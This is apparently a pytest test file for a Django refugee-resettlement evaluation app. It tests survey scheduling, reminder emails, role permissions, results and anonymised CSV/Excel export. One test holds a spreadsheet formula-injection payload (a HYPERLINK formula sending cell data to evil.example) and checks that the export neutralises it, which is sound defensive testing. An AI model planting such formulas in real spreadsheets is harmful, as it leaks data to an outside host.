"""Surveys: scheduling after arrival (frozen time), invitations, reminders, answers, results,
the anonymised export."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.core import mail
from django.core.exceptions import PermissionDenied, ValidationError
from openpyxl import load_workbook

from accounts.models import AuditEvent
from evaluation.models import Survey, SurveyKind, Wave
from evaluation.services import export, surveys
from evaluation.tasks import remind_surveys, send_due_surveys
from tests.evaluation.conftest import arrive

pytestmark = pytest.mark.django_db
BERLIN = ZoneInfo("Europe/Berlin")


def at(year: int, month: int, day: int, hour: int = 0, minute: int = 0):
    return time_machine.travel(datetime(year, month, day, hour, minute, tzinfo=BERLIN), tick=False)


ARRIVED = datetime(2027, 3, 10, 12, 0, tzinfo=BERLIN)

ANSWERS = {
    "good_decision": "5",
    "still_fits": "4",
    "belonging": "3",
    "german_level": "a2",
    "language_course": "yes",
    "still_there": "yes",
    "comment": "Call me: Olena",
}


def test_add_months_keeps_the_day_or_the_end_of_the_month():
    assert surveys.add_months(date(2027, 3, 10), 1) == date(2027, 4, 10)
    assert surveys.add_months(date(2027, 1, 31), 1) == date(2027, 2, 28)
    assert surveys.add_months(date(2027, 8, 15), 6) == date(2028, 2, 15)
    assert surveys.add_months(date(2027, 3, 10), 12) == date(2028, 3, 10)


def test_an_arrival_schedules_three_household_surveys(eval_round):
    arrive(eval_round, "EV-1", eval_round.kiel, ARRIVED)
    assert surveys.surveys_schedule() == 3
    assert surveys.surveys_schedule() == 0  # idempotent
    due = dict(Survey.objects.values_list("wave", "due_on"))
    assert due == {1: date(2027, 4, 10), 6: date(2027, 9, 10), 12: date(2028, 3, 10)}
    assert set(Survey.objects.values_list("municipality__slug", flat=True)) == {"kiel"}


def test_invitations_go_out_when_due_and_not_before(eval_round, refugee, on_commit):
    refugee.preferred_language = "en"
    refugee.save()
    arrive(eval_round, "EV-1", eval_round.kiel, ARRIVED)
    with at(2027, 4, 9, 9, 0), on_commit():
        assert send_due_surveys.delay().get() == 0
    assert mail.outbox == []
    with at(2027, 4, 10, 9, 0), on_commit():
        assert send_due_surveys.delay().get() == 1
        assert send_due_surveys.delay().get() == 0  # never twice
    survey = Survey.objects.get(wave=1)
    assert survey.sent_at is not None
    assert Survey.objects.get(wave=6).sent_at is None
    assert len(mail.outbox) == 1
    assert mail.outbox[0].to == [refugee.email]
    assert "how are you doing" in mail.outbox[0].subject
    assert f"/evaluation/surveys/{survey.pk}/" in mail.outbox[0].body


def test_reminders_come_a_week_apart_at_most_twice(eval_round, on_commit):
    arrive(eval_round, "EV-1", eval_round.kiel, ARRIVED)
    with at(2027, 4, 10, 9, 0), on_commit():
        send_due_surveys.delay()
    sent = []
    for day in (4, 7, 8, 13, 14, 30):
        when = datetime(2027, 4, 10, 10, 0, tzinfo=BERLIN) + timedelta(days=day)
        with time_machine.travel(when, tick=False), on_commit():
            sent.append(remind_surveys.delay().get())
    assert sent == [0, 1, 0, 0, 1, 0]
    survey = Survey.objects.get(wave=1)
    assert survey.reminder_count == 2
    assert len(mail.outbox) == 3
    assert "reminder" in mail.outbox[-1].subject


def test_an_answered_survey_gets_no_reminder(eval_round, refugee, on_commit):
    arrive(eval_round, "EV-1", eval_round.kiel, ARRIVED)
    with at(2027, 4, 10, 9, 0), on_commit():
        send_due_surveys.delay()
        survey = Survey.objects.get(wave=1)
        surveys.survey_answer(survey=survey, by=refugee, answers=ANSWERS, language="uk")
    with time_machine.travel(datetime(2027, 4, 20, 9, 0, tzinfo=BERLIN), tick=False):
        assert remind_surveys.delay().get() == 0


def test_a_closed_round_schedules_the_municipalities_survey(eval_round):
    eval_round.status = "closed"
    eval_round.closed_at = ARRIVED
    eval_round.save()
    assert surveys.surveys_schedule() == 2
    survey = Survey.objects.get(municipality=eval_round.kiel)
    assert (survey.kind, survey.wave, survey.due_on) == ("municipality", 0, date(2027, 3, 10))


def test_a_coordinator_sends_the_municipal_survey_now(eval_round, coordinator, staff, on_commit):
    with on_commit():
        assert surveys.survey_send_now(round=eval_round, wave=Wave.ROUND_END, by=coordinator) == 2
    assert Survey.objects.filter(kind="municipality", sent_at__isnull=False).count() == 2
    assert [m.to for m in mail.outbox] == [[staff.email]]  # Troisdorf has no staff account
    event = AuditEvent.objects.get(action="evaluation.survey.sent")
    assert event.changes == {"wave": 0, "surveys": 2}
    with pytest.raises(ValidationError, match="nobody left"):
        surveys.survey_send_now(round=eval_round, wave=Wave.ROUND_END, by=coordinator)


def test_sending_a_household_wave_now_needs_arrived_households(eval_round, coordinator):
    with pytest.raises(ValidationError, match="nobody left"):
        surveys.survey_send_now(round=eval_round, wave=Wave.ONE_MONTH, by=coordinator)
    arrive(eval_round, "EV-1", eval_round.kiel, ARRIVED)
    assert surveys.survey_send_now(round=eval_round, wave=Wave.ONE_MONTH, by=coordinator) == 1
    assert Survey.objects.get(wave=1).sent_at is not None
    assert Survey.objects.get(wave=6).sent_at is None


def test_only_coordinators_send_surveys(eval_round, staff):
    with pytest.raises(PermissionDenied):
        surveys.survey_send_now(round=eval_round, wave=Wave.ROUND_END, by=staff)


@pytest.fixture
def sent_survey(eval_round, coordinator):
    arrive(eval_round, "EV-1", eval_round.kiel, ARRIVED)
    surveys.survey_send_now(round=eval_round, wave=Wave.ONE_MONTH, by=coordinator)
    return Survey.objects.get(wave=1)


def test_the_household_answers_its_survey(sent_survey, refugee):
    surveys.survey_answer(survey=sent_survey, by=refugee, answers=ANSWERS, language="uk")
    sent_survey.refresh_from_db()
    assert sent_survey.answers["good_decision"] == "5"
    assert (sent_survey.language, sent_survey.answered_by) == ("uk", refugee)
    assert sent_survey.questions_version == "2026-1"
    event = AuditEvent.objects.get(action="evaluation.survey.answered")
    assert "Olena" not in str(event.changes)  # question codes only, never the answers


def test_nobody_else_answers_a_households_survey(sent_survey, coordinator, staff, caseworker):
    for user in (coordinator, staff, caseworker):
        with pytest.raises(PermissionDenied):
            surveys.survey_answer(survey=sent_survey, by=user, answers=ANSWERS, language="de")
    sent_survey.refresh_from_db()
    assert sent_survey.answered_at is None


def test_a_survey_is_answered_once(sent_survey, refugee):
    surveys.survey_answer(survey=sent_survey, by=refugee, answers=ANSWERS, language="uk")
    with pytest.raises(ValidationError, match="answered already"):
        surveys.survey_answer(
            survey=sent_survey, by=refugee, answers={"good_decision": "1"}, language="uk"
        )
    sent_survey.refresh_from_db()
    assert sent_survey.answers["good_decision"] == "5"


def test_a_municipal_survey_is_answered_by_its_staff_only(
    eval_round, coordinator, staff, other_staff
):
    surveys.survey_send_now(round=eval_round, wave=Wave.ROUND_END, by=coordinator)
    kiel = Survey.objects.get(municipality=eval_round.kiel)
    with pytest.raises(PermissionDenied):
        surveys.survey_answer(survey=kiel, by=other_staff, answers={}, language="de")
    surveys.survey_answer(survey=kiel, by=staff, answers={"proposal_fit": "4"}, language="de")
    assert Survey.objects.get(pk=kiel.pk).answers == {"proposal_fit": "4"}


def test_visible_to_scopes_surveys_by_role(
    sent_survey, eval_round, coordinator, staff, other_staff, caseworker, refugee
):
    surveys.survey_send_now(round=eval_round, wave=Wave.ROUND_END, by=coordinator)
    kiel = Survey.objects.get(kind="municipality", municipality=eval_round.kiel)
    troisdorf = Survey.objects.get(kind="municipality", municipality=eval_round.troisdorf)
    assert set(Survey.objects.visible_to(refugee)) == set(Survey.objects.filter(kind="household"))
    assert set(Survey.objects.visible_to(staff)) == {kiel}  # not the household's about Kiel
    assert set(Survey.objects.visible_to(other_staff)) == {troisdorf}
    assert set(Survey.objects.visible_to(caseworker)) == set()
    assert Survey.objects.visible_to(coordinator).count() == 5


def test_results_and_response_rates_per_wave(sent_survey, refugee, eval_round, coordinator):
    surveys.survey_answer(survey=sent_survey, by=refugee, answers=ANSWERS, language="uk")
    rates = {r["wave"]: r for r in surveys.response_rates(eval_round)}
    assert (rates[1]["total"], rates[1]["sent"], rates[1]["answered"], rates[1]["rate"]) == (
        1,
        1,
        1,
        1.0,
    )
    assert rates[6]["rate"] is None
    assert rates[6]["total"] == 1
    results = {r["question"].code: r for r in surveys.survey_results(eval_round, "household")}
    one_month = results["good_decision"]["waves"][0]
    assert (one_month["count"], one_month["mean"]) == (1, 5.0)
    assert results["comment"]["texts"] == [("Call me: Olena", "1 month after arrival")]


def test_the_export_is_anonymised(sent_survey, refugee, eval_round, coordinator):
    surveys.survey_answer(survey=sent_survey, by=refugee, answers=ANSWERS, language="uk")
    content, content_type = export.survey_export(
        round=eval_round, kind=SurveyKind.HOUSEHOLD, fmt="csv", by=coordinator
    )
    text = content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert content_type.startswith("text/csv")
    assert len(rows) == 2
    assert "comment" not in rows[0]
    assert "Olena" not in text
    assert "EV-1" not in text
    assert rows[1][1:5] == ["1", "Kiel", "Schleswig-Holstein", sent_survey.due_on.strftime("%Y-%m")]
    assert rows[1][0] == export.pseudonym("household", eval_round.h["EV-1"].pk)
    # Questions and answers in words, never their codes; scales stay numbers.
    assert "good_decision" not in rows[0]
    assert "german_level" not in rows[0]
    assert rows[1][6] == "Ukrainian"
    assert "a2" not in rows[1]
    assert "yes" not in rows[1]
    assert "5" in rows[1]
    assert AuditEvent.objects.filter(action="evaluation.survey.exported").count() == 1


def test_the_excel_export_holds_the_same_rows(sent_survey, refugee, eval_round, coordinator):
    surveys.survey_answer(survey=sent_survey, by=refugee, answers=ANSWERS, language="uk")
    content, _type = export.survey_export(
        round=eval_round, kind=SurveyKind.HOUSEHOLD, fmt="xlsx", by=coordinator
    )
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.values)
    assert len(rows) == 2
    assert rows[1][7] == 5


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_formula_typed_into_a_survey_answer_stays_text(eval_round, coordinator, fmt):
    attack = '=HYPERLINK("http://evil.example/steal?d="&A2,"x")'
    Survey.objects.create(
        round=eval_round,
        kind=SurveyKind.MUNICIPALITY,
        wave=Wave.ROUND_END,
        municipality=eval_round.kiel,
        due_on=date(2026, 1, 1),
        answered_at=datetime(2026, 1, 2, tzinfo=ZoneInfo("UTC")),
        answers={"workshop_topics": attack},
        language="de",
    )
    content, _type = export.survey_export(
        round=eval_round, kind=SurveyKind.MUNICIPALITY, fmt=fmt, by=coordinator
    )
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
        assert rows[1][-1] == "'" + attack
    else:
        cell = load_workbook(io.BytesIO(content)).active.cell(row=2, column=len(rows_of(content)))
        assert (cell.data_type, cell.value) == ("s", attack)


def rows_of(content: bytes) -> list:
    return list(load_workbook(io.BytesIO(content)).active.values)[0]


def test_the_effort_question_offers_as_much_more_as_less():
    """The effort scale offered "higher" but "lower" and "much lower": a municipality whose
    office had far more work could not say so, and the answers leaned towards less effort."""
    from evaluation.questions import MUNICIPALITY_QUESTIONS

    (effort,) = (q for q in MUNICIPALITY_QUESTIONS if q.code == "effort")
    codes = [code for code, _label in effort.choices]
    middle = codes.index("same")
    assert codes == ["much_more", "more", "same", "less", "much_less"]
    assert middle == len(codes) - 1 - middle
